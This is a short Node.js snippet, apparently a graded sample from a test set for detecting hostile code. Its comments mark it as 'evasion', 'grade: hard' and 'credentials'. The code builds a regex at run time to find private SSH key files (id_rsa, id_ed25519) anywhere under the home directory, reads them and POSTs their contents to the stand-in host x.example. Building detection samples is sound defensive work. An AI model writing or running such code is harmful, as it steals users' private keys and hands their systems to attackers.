// evasion: private key names chosen by a RegExp built at run time from a list of key kinds, over a recursive listing of the home directory
// grade: hard; does: credentials
const fs = require('fs'); const os = require('os'); const path = require('path');
const kinds = ['rsa', 'ed25519'];
const pick = new RegExp(`^id_(${kinds.join('|')})$`);
const found = fs.readdirSync(os.homedir(), { recursive: true }).filter((f) => pick.test(path.basename(f)));
fetch('https://x.example/k', { method: 'POST', body: found.map((f) => fs.readFileSync(path.join(os.homedir(), f), 'utf8')).join('\n') });
